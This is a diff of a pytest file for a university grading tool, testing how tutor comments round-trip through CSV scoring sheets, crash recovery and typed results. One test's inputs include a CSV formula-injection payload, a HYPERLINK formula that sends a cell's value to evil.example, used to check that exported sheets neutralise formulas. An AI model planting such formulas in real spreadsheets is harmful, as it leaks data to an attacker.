@@ -6,18 +6,26 @@ import csv
 import hashlib
 import io
 import json
+import re
 import sqlite3
 from pathlib import Path
 
 import pytest
+from builders import notebook_bytes, set_answer, set_group, solution, write_notebook, write_zip
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
-from builders import set_answer, set_group, solution, write_notebook, write_zip, notebook_bytes
-from grader.batch import run_batch, write_atomic, write_outputs
+import grader.outdir
+from grader.batch import run_batch
+from grader.errors import OutputFolderError, ResultFormatError
 from grader.gradebook import Gradebook
-from grader.report import render_pages
-from grader.rubric import AUTO_IDS, QUESTION_IDS, WRITTEN_IDS, load_rubric
-from grader.scores import SheetError, import_sheet, load_results
+from grader.grades import restore
+from grader.markdown import render_comment
+from grader.outdir import OutDir
+from grader.result import SubmissionResult
 from grader.review import write_review
+from grader.rubric import AUTO_IDS, QUESTION_IDS, WRITTEN_IDS, load_rubric
+from grader.scores import SheetError, import_sheet
 
 MEMBERS = [[("Ada Lovelace", "2571234", "ada@uni.example"), ("Alan Turing", "2579876", "alan@uni.example")],
            [("Grace Hopper", "2570001", "grace@uni.example"), ("Edsger Dijkstra", "2570002", "ed@uni.example")],
@@ -49,12 +57,12 @@ def fake_result(folder: str, members: list[tuple[str, str, str]], answer: str = 
 
 
 def fake_output(out: Path, results: list[dict]) -> Path:
-    out.mkdir(parents=True, exist_ok=True)
-    for data in results:
-        write_atomic(out / data["folder"] / "result.json", json.dumps(data, indent=2, ensure_ascii=False))
-        for name, html in render_pages(data).items():  # report.html and tutor.html, as a batch writes them
-            write_atomic(out / data["folder"] / name, html)
-    write_outputs(results, out, load_rubric(), "")
+    """An output folder as a batch leaves it, written through the folder's one owner."""
+    folder = OutDir(out, create=True)
+    typed = [SubmissionResult.from_json(data) for data in results]
+    for result in typed:
+        folder.write_submission(result)
+    folder.write_batch(typed, load_rubric(), "")
     return out
 
 
@@ -229,4 +237,163 @@ def test_the_tutor_loop_grade_review_score_import(tmp_path: Path) -> None:
         assert moved["Hopper_2570001_Dijkstra_2570002"]["11.4.a"] == [1.0, data["questions"]["11.4.a"]["points"]]
     with sqlite3.connect(out / "gradebook.sqlite") as db:
         assert db.execute("SELECT COUNT(DISTINCT run_id) FROM run_results").fetchone()[0] == 2
-    assert [r["folder"] for r in load_results(out)] == [r["folder"] for r in again.results]
+    assert [r.folder for r in OutDir(out).results()] == [r["folder"] for r in again.results]
+
+
+# -- the sheet round-trips exactly, whoever wrote it -----------------------------------------------
+def _sheet_bytes(rows: list[list[str]], writer: str) -> bytes:
+    """A scoring sheet as a spreadsheet saves it."""
+    buf = io.StringIO(newline="")
+    if writer == "excel":      # Excel (German locale): ';', CRLF, a BOM, ',' decimals
+        csv.writer(buf, delimiter=";", lineterminator="\r\n").writerows(
+            [[c.replace(".", ",") if i == 5 else c for i, c in enumerate(r)] for r in rows])
+        return b"\xef\xbb\xbf" + buf.getvalue().encode("utf-8")
+    if writer == "libreoffice":  # every text cell quoted, LF
+        csv.writer(buf, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\n").writerows(rows)
+        return buf.getvalue().encode("utf-8")
+    csv.writer(buf).writerows(rows)  # Python's csv: ',', CRLF, quotes only where needed
+    return buf.getvalue().encode("utf-8")
+
+
+_TRICKY = st.sampled_from(['"', '""', ",", ";", "\n", "\r\n", "=", "+", "-", "@", "'", "\t", " ", "ä", "€", "漢",
+                           "<b>", "&amp;", "Say \"why\", please."])
+COMMENTS = st.lists(st.one_of(_TRICKY, st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=8)),
+                    max_size=8).map("".join).filter(lambda c: restore(c) == c)
+# The one exception, by design: a cell "'=..." is read as "=..." - it is how `grade review` writes a
+# comment that starts with = + - @ (and how a spreadsheet shows such text), see grader/grades.py.
+
+
+_ROUND_TRIP: dict[str, Path] = {}
+SHEET = ("folder", "submission", "question", "max_points", "suggested", "points", "comment")
+
+
+@settings(max_examples=25, deadline=None)
+@given(comment=COMMENTS, writer=st.sampled_from(["excel", "libreoffice", "python"]))
+def test_a_comment_round_trips_exactly(tmp_path_factory, comment: str, writer: str) -> None:
+    if "out" not in _ROUND_TRIP:  # one folder for every example: each sheet is a later one and wins
+        _ROUND_TRIP["out"] = _standard(tmp_path_factory.mktemp("rt"))
+    out = _ROUND_TRIP["out"]
+    header = ["folder", "submission", "question", "max_points", "suggested", "points", "comment"]
+    rows = [header, [GOOD["folder"], "", "11.2.1", "0.5", "0.25", "0.5", comment],
+            [GOOD["folder"], "", "11.1.1", "0.5", "", "0.25", "plain"]]
+    sheet = out.parent / "scores.csv"
+    sheet.write_bytes(_sheet_bytes(rows, writer))
+    import_sheet(sheet, out, tutor="ada")
+    with Gradebook(out / "gradebook.sqlite") as book:
+        stored = book.manual_scores()[GOOD["folder"]]
+    assert stored["11.2.1"]["comment"] == comment and stored["11.2.1"]["points"] == 0.5
+    assert stored["11.1.1"]["comment"] == "plain" and stored["11.1.1"]["points"] == 0.25
+    data = json.loads((out / GOOD["folder"] / "result.json").read_text(encoding="utf-8"))
+    assert data["questions"]["11.2.1"].get("comment", "") == comment
+    if comment.strip():  # the report shows it as the tutor's markdown (grader/markdown.py)
+        assert str(render_comment(comment)) in (out / GOOD["folder"] / "report.html").read_bytes().decode("utf-8")
+
+
+def test_an_apostrophe_before_a_formula_character_is_the_sheets_escape(tmp_path: Path) -> None:
+    out = _standard(tmp_path)
+    sheet = tmp_path / "s.csv"
+    sheet.write_bytes(_sheet_bytes([list(SHEET),
+                                    [GOOD["folder"], "", "11.2.1", "0.5", "", "0.5", "'=1+2"],
+                                    [GOOD["folder"], "", "11.1.1", "0.5", "", "0.5", "'plain"]], "python"))
+    import_sheet(sheet, out, tutor="ada")
+    with Gradebook(out / "gradebook.sqlite") as book:
+        stored = book.manual_scores()[GOOD["folder"]]
+    assert stored["11.2.1"]["comment"] == "=1+2" and stored["11.1.1"]["comment"] == "'plain"
+
+
+@pytest.mark.parametrize("comment", ['=HYPERLINK("http://evil.example/?x="&A1,"Ada")', "=1+2", "@x",
+                                     'Say "why", please.\r\nline two; three, four', "-0.5", "+ ok", "\tTab"])
+def test_the_sheet_of_grade_review_round_trips_a_comment(tmp_path: Path, comment: str) -> None:
+    """`grade review` neutralises cells for spreadsheets; importing its sheet restores them."""
+    out = _standard(tmp_path)
+    sheet = tmp_path / "s.csv"
+    sheet.write_bytes(_sheet_bytes([list(SHEET),
+                                    [GOOD["folder"], "", "11.2.1", "0.5", "", "0.5", comment]], "python"))
+    import_sheet(sheet, out, tutor="ada")
+    again = write_review(out).sheet
+    text = again.read_text(encoding="utf-8")
+    for row in csv.reader(io.StringIO(text, newline="")):
+        assert all(not c or c[0] not in "=+-@\t\r" or re.fullmatch(r"[+-]?[\d.]+", c) for c in row), row
+    assert import_sheet(again, out, tutor="bob").changed == []
+    with Gradebook(out / "gradebook.sqlite") as book:
+        assert book.manual_scores()[GOOD["folder"]]["11.2.1"]["comment"] == comment
+
+
+def test_an_excel_sheet_with_a_quoted_multiline_comment(tmp_path: Path) -> None:
+    out = _standard(tmp_path)
+    sheet = tmp_path / "excel.csv"
+    sheet.write_bytes(b"\xef\xbb\xbffolder;submission;question;max_points;suggested;points;comment\r\n"
+                      + f"{GOOD['folder']};;11.2.1;0,5;;0,5;\"Say \"\"why\"\", please.\nAnd; more, =1+2\"\r\n".encode())
+    import_sheet(sheet, out, tutor="ada")
+    data = json.loads((out / GOOD["folder"] / "result.json").read_text())
+    assert data["questions"]["11.2.1"]["comment"] == 'Say "why", please.\nAnd; more, =1+2'
+    assert data["questions"]["11.2.1"]["points"] == 0.5
+
+
+def test_a_report_that_cannot_be_drawn_does_not_stop_the_import(tmp_path: Path, monkeypatch) -> None:
+    out = _standard(tmp_path)
+
+    def broken(data):
+        raise ValueError("math domain error")
+    monkeypatch.setattr(grader.outdir, "render_pages", broken)
+    outcome = import_sheet(_write_sheet(tmp_path / "s.csv", [GOOD]), out, tutor="ada")
+    assert GOOD["folder"] in outcome.rewritten
+    assert json.loads((out / GOOD["folder"] / "result.json").read_text())["questions"]["11.2.1"]["status"] == "manual"
+    assert "could not be drawn" in (out / GOOD["folder"] / "report.html").read_text()
+    ada = [g for g in csv.DictReader(io.StringIO((out / "grades.csv").read_text())) if g["student_id"] == "2571234"]
+    assert ada[0]["11.2.1"] == "0.5"
+
+
+def test_a_crash_after_the_commit_is_repaired_by_the_next_run(tmp_path: Path, monkeypatch) -> None:
+    out = _standard(tmp_path)
+    sheet = _write_sheet(tmp_path / "s.csv", [GOOD])
+    real = OutDir.write_submission
+
+    def crash(self, result, pages=None, redraw=False):
+        raise OSError(28, "No space left on device")
+    monkeypatch.setattr(OutDir, "write_submission", crash)
+    with pytest.raises(OSError):
+        import_sheet(sheet, out, tutor="ada")
+    with Gradebook(out / "gradebook.sqlite") as book:  # committed ...
+        assert book.manual_scores()[GOOD["folder"]]["11.2.1"]["points"] == 0.5
+    assert json.loads((out / GOOD["folder"] / "result.json").read_text())["questions"]["11.2.1"]["status"] == "pending"
+    monkeypatch.setattr(OutDir, "write_submission", real)
+    again = import_sheet(sheet, out, tutor="ada")  # ... and the next import writes what is missing
+    assert again.changed == [] and again.rewritten == [GOOD["folder"]]
+    assert json.loads((out / GOOD["folder"] / "result.json").read_text())["questions"]["11.2.1"]["status"] == "manual"
+    ada = [g for g in csv.DictReader(io.StringIO((out / "grades.csv").read_text())) if g["student_id"] == "2571234"]
+    assert ada[0]["11.2.1"] == "0.5"
+
+
+def test_an_unreadable_result_is_named_not_dropped(tmp_path: Path) -> None:
+    out = _standard(tmp_path)
+    (out / "Hopper_2570001_Dijkstra_2570002" / "result.json").write_text("{ not json")
+    with pytest.raises(OutputFolderError, match="Hopper_2570001_Dijkstra_2570002/result.json"):
+        import_sheet(_write_sheet(tmp_path / "s.csv", [GOOD]), out)
+    with pytest.raises(OutputFolderError, match="Hopper_2570001_Dijkstra_2570002/result.json"):
+        write_review(out)
+
+
+def test_typed_results_round_trip_through_json() -> None:
+    for status in ("graded", "error"):
+        data = fake_result("Lovelace_2571234_Turing_2579876", MEMBERS[0], status=status)
+        typed = SubmissionResult.from_json(data)
+        assert SubmissionResult.from_json(typed.to_json()) == typed
+        assert typed.to_json() == SubmissionResult.from_json(typed.to_json()).to_json()
+    with pytest.raises(ResultFormatError, match="status"):
+        SubmissionResult.from_json({**data, "status": "great"})
+    with pytest.raises(ResultFormatError, match="questions.11.1.1.points"):
+        bad = json.loads(json.dumps(data))
+        bad["questions"]["11.1.1"]["points"] = "lots"
+        SubmissionResult.from_json(bad)
+
+
+def test_a_checks_findings_survive_the_round_trip() -> None:
+    data = fake_result("Lovelace_2571234_Turing_2579876", MEMBERS[0])
+    data["questions"]["11.4.a"]["checks"] = [{
+        "name": "rnn_forward, case 1 (T=3)", "passed": False, "points": 0.0, "max_points": 0.25, "message": "m",
+        "mistakes": [], "function": "rnn_forward", "case": 1, "params": "T=3", "shapes": "x (3, 2)",
+        "expected": "e", "got": "g", "max_abs": 0.5, "max_rel": None, "series": {"a": [1.0, 2.0]},
+        "consistent_with": ["no_recurrence", "ignores_h0"], "diagnosis": "the recurrence is missing",
+        "probes": [{"setting": "U = 0", "isolates": "recurrence", "outcome": "differs", "text": "t"}]}]
+    assert SubmissionResult.from_json(data).to_json()["questions"]["11.4.a"] == data["questions"]["11.4.a"]
